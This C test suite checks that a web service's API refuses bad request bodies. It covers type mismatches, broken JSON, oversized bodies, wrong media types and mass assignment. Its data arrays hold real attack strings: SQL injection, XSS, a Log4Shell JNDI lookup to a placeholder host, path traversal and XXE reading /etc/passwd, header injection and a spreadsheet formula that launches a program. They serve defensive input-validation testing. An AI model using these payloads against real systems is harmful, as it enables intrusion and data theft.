// SPDX-License-Identifier: MIT
// Bodies nobody should send, to every route that takes one: each field by its schema, and the body as a whole. The answer is
// the contract's error, names the field, and nothing is written.
#include "hostile.h"

#include <stdio.h>
#include <string.h>

#include "json.h"
#include "service_names.h"
#include "text.h"

#define GATEWAY_BODY_LIMIT ((size_t)256 * 1024)

static struct cast cast;
static struct target *targets;
static size_t target_count;

static int every_body_has_a_target(void **state)
{
    if (story_setup(state) != 0) return -1;
    cast_make(&cast);
    const struct route_list routes = route_list();
    targets = arena_alloc(story_arena(), routes.count * sizeof *targets);
    for (size_t i = 0; i < routes.count; i++)
        if (routes.items[i].body) targets[target_count++] = target_of(&cast, &routes.items[i]);
    note_service_starts();
    return 0;
}

static struct answer attack(const struct target *target, const char *body, size_t length)
{
    return call_bytes(target->who, target->route->method, target->url, "application/json", body, length);
}

// A body with one member set to a JSON text of any kind, well-formed or not.
static const char *body_with(const char *body, const char *name, const char *value)
{
    CLEANUP(json_release) json_t *object = json_loads(body, 0, NULL);
    assert_non_null(object);
    json_object_del(object, name);
    char *rest = json_text(story_arena(), object);
    return arena_printf(story_arena(), "{\"%s\":%s%s%s", name, value, json_object_size(object) ? "," : "", rest + 1);
}

// --- Fields ------------------------------------------------------------------------------------------

enum { TEXT = 1, INTEGER = 2, NUMBER = 4, BOOLEAN = 8, LIST = 16, ANYTHING = 32, NULLABLE = 64 };

static int type_bit(const char *name)
{
    static const struct { const char *name; int bit; } types[] = {{"string", TEXT}, {"integer", INTEGER}, {"number", NUMBER},
                                                                   {"boolean", BOOLEAN}, {"array", LIST}, {"null", NULLABLE}};
    for (size_t i = 0; name && i < COUNT_OF(types); i++)
        if (strcmp(types[i].name, name) == 0) return types[i].bit;
    return ANYTHING;
}

static int types_of(const json_t *schema)
{
    const json_t *type = json_object_get(schema, "type");
    if (!json_is_array(type)) return type_bit(json_string_value(type));
    int bits = 0;
    for (size_t i = 0; i < json_array_size(type); i++) bits |= type_bit(json_string_value(json_array_get(type, i)));
    return bits;
}

#define LONG_TEXT "\"@long@\""

// Values, and the types that could take them; all others must refuse.
#define NO_JSON -1
static const struct { const char *name, *json; int taken_by; } values[] = {
    {"null", "null", NULLABLE},
    {"true", "true", BOOLEAN},
    {"a number", "12345", INTEGER | NUMBER},
    {"a fraction", "1.5", NUMBER},
    {"a third decimal", "1.005", 0},
    {"a negative number", "-1", 0},
    {"the least number", "-9223372036854775808", 0},
    {"the greatest number", "9223372036854775807", 0},
    {"a number beyond", "9223372036854775808", NO_JSON},
    {"a number far beyond", "1e308", 0},
    {"a number of no double", "1e400", NO_JSON},
    {"a number of 400 digits", "1@digits@", NO_JSON},
    {"not a number", "NaN", NO_JSON},
    {"a text", "\"x\"", TEXT},
    {"a number as text", "\"1\"", TEXT},
    {"a very long text", LONG_TEXT, 0},
    {"a NUL", "\"a\\u0000b\"", NO_JSON},
    {"half a surrogate", "\"\\ud800\"", NO_JSON},
    {"bytes that are no UTF-8", "\"\xff\xfe\"", NO_JSON},
    {"an overlong slash", "\"\xc0\xaf\"", NO_JSON},
    {"a surrogate in UTF-8", "\"\xed\xa0\x80\"", NO_JSON},
    {"a raw line break", "\"a\nb\"", NO_JSON},
    {"an empty list", "[]", LIST | ANYTHING},
    {"a list of numbers", "[1,2]", ANYTHING},
    {"a list of null", "[null]", ANYTHING},
    {"a list in a list", "[[\"x\"]]", ANYTHING},
    {"an object", "{}", ANYTHING},
    {"an object that is no text", "{\"$gt\":\"\"}", ANYTHING},
};

static const char *value_text(const char *json)
{
    static char digits[401], letters[20001];
    if (!digits[0]) memset(digits, '0', sizeof digits - 1);
    if (!letters[0]) memset(letters, 'a', sizeof letters - 1);
    if (strcmp(json, LONG_TEXT) == 0) return arena_printf(story_arena(), "\"%s\"", letters);
    if (strcmp(json, "1@digits@") == 0) return arena_printf(story_arena(), "1%s", digits);
    return json;
}

static void wrong_values_name_their_field_and_write_nothing(void **state)
{
    (void)state;
    const struct database_image before = database_image_settled();
    size_t sent = 0;
    for (size_t t = 0; t < target_count; t++) {
        const char *name;
        json_t *schema;
        json_object_foreach((json_t *)(uintptr_t)targets[t].route->body, name, schema) {
            for (size_t v = 0; v < COUNT_OF(values); v++, sent++) {
                if (values[v].taken_by != NO_JSON && values[v].taken_by & types_of(schema)) continue;
                const char *body = body_with(targets[t].body, name, value_text(values[v].json));
                struct answer answer = attack(&targets[t], body, strlen(body));
                const char *what = arena_printf(story_arena(), "%s in '%s'", values[v].name, name);
                expect_civil(&answer, what);
                const bool named = answer.status == 422 && names_member(&answer, arena_printf(story_arena(), "/%s", name));
                const bool other_kind = answer.status == 409 && types_of(schema) == ANYTHING; // a part that is not for her is not looked into
                if (values[v].taken_by == NO_JSON ? answer.status != 400 : !named && !other_kind) fail_msg("%s: %s was not refused: %d %s", answer.called, what, answer.status, answer.http.body);
            }
        }
    }
    database_image_expect(&before);
    assert_true(sent > 500);
}

// --- Strings that mean something elsewhere ---------------------------------------------------------------

static const char *const odd_texts[] = {
    "'; DROP TABLE users; --", "' OR '1'='1", "\\\\'; SELECT pg_sleep(9); --", "$1", "%_\\\\%", "x'||(SELECT password_hash FROM users LIMIT 1)||'",
    "<script>alert(1)</script>", "\\\"><img src=x onerror=alert(1)>", "{{7*7}}${7*7}#{7*7}", "${jndi:ldap://x.example/a}", "../../../../etc/passwd",
    "a\\r\\nSet-Cookie: x=1", "%0d%0aX-Injected: 1", "=cmd|' /C calc'!A0", "\\ufeffbom", "\\u202egnp.exe", "a\\u0301\\u0301\\u0301\\u0301", "\\ud83d\\ude00", "-0", "1e2",
    "true", "null", "", " ", "0000-01-01T00:00:00Z", "9999-12-31T23:59:60+23:59", "2024-02-30", "%s%s%s%n",
};

// They are taken as they are or refused; they run nowhere, and a text that is shown again is the one that was given.
static void texts_that_are_code_elsewhere_are_text_here(void **state)
{
    (void)state;
    for (size_t t = 0; t < target_count; t++) {
        const char *name;
        json_t *schema;
        json_object_foreach((json_t *)(uintptr_t)targets[t].route->body, name, schema) {
            for (size_t i = 0; types_of(schema) & TEXT && i < COUNT_OF(odd_texts); i++) {
                const char *body = body_with(cast_fill(&cast, targets[t].who, targets[t].row->body ? targets[t].row->body : "{}"), name, arena_printf(story_arena(), "\"%s\"", odd_texts[i]));
                struct answer answer = attack(&targets[t], body, strlen(body));
                expect_civil(&answer, odd_texts[i]);
                const char *shown = json_string_value(at(&answer, name));
                if (answer.status < 300 && shown && strstr(odd_texts[i], "<script>")) assert_non_null(strstr(shown, "<script>"));
            }
        }
    }
}

// --- The body as a whole ----------------------------------------------------------------------------------

static const char *repeated(const char *piece, size_t times)
{
    struct text_buffer out = text_buffer(story_arena());
    for (size_t i = 0; i < times; i++) text_add(&out, piece);
    return text_take(&out);
}

static const char *first_field(const struct target *target)
{
    return json_object_iter_key(json_object_iter((json_t *)(uintptr_t)target->route->body));
}

static void broken_bodies_are_refused_and_write_nothing(void **state)
{
    (void)state;
    const struct { const char *name, *body; size_t length; } bodies[] = {
        {"null", "null", 4}, {"a list", "[]", 2}, {"a list of objects", "[{}]", 4}, {"a text", "\"x\"", 3}, {"a number", "7", 1}, {"half an object", "{\"a\":1", 6},
        {"a colon less", "{\"a\" 1}", 7}, {"single quotes", "{'a':1}", 7}, {"a last comma", "{\"a\":1,}", 8}, {"a comment", "{/**/}", 6},
        {"two objects", "{}{}", 4}, {"an object and more", "{} x", 4}, {"a NUL", "{}\0", 3}, {"NULs alone", "\0\0\0\0", 4}, {"blanks alone", "   ", 3},
        {"a byte order mark", "\xef\xbb\xbf{}", 5}, {"UTF-16", "{\0}\0", 4}, {"no UTF-8", "{\"\xff\":1}", 7},
        {"a form", "email=a%40b.example&password=x", 30}, {"XML", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", 64},
    };
    const struct database_image before = database_image_settled();
    for (size_t t = 0; t < target_count; t++) {
        for (size_t i = 0; i < COUNT_OF(bodies); i++) {
            struct answer answer = attack(&targets[t], bodies[i].body, bodies[i].length);
            expect_civil(&answer, bodies[i].name);
            if (answer.status != 400) fail_msg("%s took %s for a body: %d %s", answer.called, bodies[i].name, answer.status, answer.http.body);
        }
        const char *twice = arena_printf(story_arena(), "{\"%s\":1,\"%s\":2}", first_field(&targets[t]), first_field(&targets[t]));
        struct answer answer = attack(&targets[t], twice, strlen(twice));
        expect_civil(&answer, "a member twice");
        expect_status(&answer, 400);
    }
    database_image_expect(&before);
}

static void deep_wide_and_long_bodies_are_refused_at_little_cost(void **state)
{
    (void)state;
    struct text_buffer wide = text_buffer(story_arena());
    text_add(&wide, "{");
    for (int i = 0; wide.length < GATEWAY_BODY_LIMIT - 32; i++) text_printf(&wide, "%s\"m%d\":0", i ? "," : "", i);
    text_add(&wide, "}");
    const char *long_name = repeated("\xe2\x82\xac", 200); // cut anywhere, it must stay UTF-8
    const struct { const char *name, *body; int status; } bodies[] = {
        {"100,000 lists in lists", repeated("[", 100000), 400},
        {"50,000 objects in objects", repeated("{\"a\":", 40000), 400},
        {"a deep field", arena_printf(story_arena(), "{\"x\":%s%s}", repeated("[", 3000), repeated("]", 3000)), 400},
        {"a member for every ten bytes", text_take(&wide), 422},
        {"a long name", arena_printf(story_arena(), "{\"%s\":0}", long_name), 422},
        {"a name of one byte less", arena_printf(story_arena(), "{\"x%s\":0}", long_name), 422},
        {"a name with a tilde", "{\"~0\":0}", 422},
        {"one byte too many", repeated("x", GATEWAY_BODY_LIMIT + 1), 413},
    };
    const struct database_image before = database_image_settled();
    for (size_t t = 0; t < target_count; t++) {
        for (size_t i = 0; i < COUNT_OF(bodies); i++) {
            struct answer answer = attack(&targets[t], bodies[i].body, strlen(bodies[i].body));
            expect_civil(&answer, bodies[i].name);
            expect_status(&answer, bodies[i].status);
        }
    }
    database_image_expect(&before);
}

static void unknown_names_are_pointed_at(void **state)
{
    (void)state;
    static const char *const names[][2] = {{"a/b~c", "/a~1b~0c"}, {"a\\nb", "/a\nb"}, {"?page", "/?page"}, {"\\u00e9", "/\xc3\xa9"}, {"", "/"}};
    for (size_t t = 0; t < target_count; t++) {
        for (size_t i = 0; i < COUNT_OF(names); i++) {
            const char *body = arena_printf(story_arena(), "{\"%s\":0}", names[i][0]);
            struct answer answer = attack(&targets[t], body, strlen(body));
            expect_civil(&answer, names[i][0]);
            expect_status(&answer, 422);
            if (!names_member(&answer, names[i][1])) fail_msg("%s does not name %s: %s", answer.called, names[i][1], answer.http.body);
        }
    }
}

static void other_media_types_are_refused(void **state)
{
    (void)state;
    static const char *const types[] = {"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
                                        "application/jsonp", "application/json+x", "text/json", "json", "application/json,text/plain"};
    for (size_t t = 0; t < target_count; t++) {
        for (size_t i = 0; i < COUNT_OF(types); i++) {
            struct answer answer = call_bytes(targets[t].who, targets[t].route->method, targets[t].url, types[i], "{}", 2);
            expect_civil(&answer, types[i]);
            expect_status(&answer, 415);
        }
    }
}

// --- Mass assignment ----------------------------------------------------------------------------------------

// Every member that any answer of the services shows, and a few that only tables know.
static json_t *all_members(void)
{
    static const char *const columns[] = {"password_hash", "firebase_uid", "tokens_valid_after", "bio_public", "role", "adm", "__proto__", "constructor"};
    json_t *names = json_object();
    for (size_t i = 0; service_names[i]; i++) {
        const char *output, *schema_name;
        run(&output, "%s/%s schema all", setting("BIN_DIR"), service_names[i]);
        json_t *document = json_loads(output, 0, NULL), *schema;
        json_object_foreach(json_object_get(json_object_get(document, "components"), "schemas"), schema_name, schema)
            json_object_update(names, json_object_get(schema, "properties"));
        json_decref(document);
    }
    for (size_t i = 0; i < COUNT_OF(columns); i++) json_object_set_new(names, columns[i], json_true());
    return names;
}

#define NAMES_AT_ONCE 50 // an answer names a hundred at most

// The row's body with some of the names beside it, from *name on, which then is the first that did not fit. NULL: none was left.
static json_t *body_with_names(const struct target *target, json_t *names, void **name)
{
    json_t *body = json_loads(target->body, 0, NULL);
    int count = 0;
    for (; *name && count < NAMES_AT_ONCE; *name = json_object_iter_next(names, *name)) {
        if (json_object_get(target->route->body, json_object_iter_key(*name))) continue;
        json_object_set_new(body, json_object_iter_key(*name), json_true());
        count++;
    }
    if (count) return body;
    json_decref(body);
    return NULL;
}

static void no_member_but_its_own_can_be_set(void **state)
{
    (void)state;
    CLEANUP(json_release) json_t *names = all_members();
    assert_true(json_object_size(names) > 80);
    const struct database_image before = database_image_settled();
    for (size_t t = 0; t < target_count; t++) {
        for (void *next = json_object_iter(names); next;) {
            CLEANUP(json_release) json_t *body = body_with_names(&targets[t], names, &next);
            if (!body) break;
            const char *text = json_text(story_arena(), body), *name;
            struct answer answer = attack(&targets[t], text, strlen(text));
            json_t *value;
            expect_civil(&answer, "members of others");
            json_object_foreach(body, name, value) {
                if (json_object_get(targets[t].route->body, name) || names_member(&answer, arena_printf(story_arena(), "/%s", name))) continue;
                fail_msg("%s does not refuse '%s': %d %s", answer.called, name, answer.status, answer.http.body);
            }
        }
    }
    database_image_expect(&before);
}

// A part inside a profile is judged as it is at its own route, and the pointer leads into it.
static void parts_within_a_profile_are_held_to_their_rules(void **state)
{
    (void)state;
    static const struct { const char *part, *pointer; } wrong[] = {
        {"5", "/employer"}, {"[]", "/employer"}, {"\"x\"", "/employer"}, {"{\"location\":7}", "/employer/location"},
        {"{\"user_id\":\"x\"}", "/employer/user_id"}, {"{\"description\":\"call 0722 000 111\"}", "/employer/description"}};
    const char *path = route_url(&(struct api_route){.path = "/profiles/{id}"}, cast_thing(&cast, &cast.employer, THING_PROFILE));
    const struct database_image before = database_image_settled();
    for (size_t i = 0; i < COUNT_OF(wrong); i++) {
        struct answer answer = call(&cast.employer, "PATCH", path, "{\"employer\":%s}", wrong[i].part);
        expect_civil(&answer, wrong[i].part);
        expect_status(&answer, 422);
        if (!names_member(&answer, wrong[i].pointer)) fail_msg("%s is not named: %s", wrong[i].pointer, answer.http.body);
    }
    database_image_expect(&before);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(wrong_values_name_their_field_and_write_nothing), cmocka_unit_test(texts_that_are_code_elsewhere_are_text_here),
        cmocka_unit_test(broken_bodies_are_refused_and_write_nothing), cmocka_unit_test(deep_wide_and_long_bodies_are_refused_at_little_cost),
        cmocka_unit_test(unknown_names_are_pointed_at), cmocka_unit_test(other_media_types_are_refused), cmocka_unit_test(no_member_but_its_own_can_be_set),
        cmocka_unit_test(parts_within_a_profile_are_held_to_their_rules), cmocka_unit_test(nobody_has_died_of_it),
    };
    return cmocka_run_group_tests(tests, every_body_has_a_target, story_teardown);
}
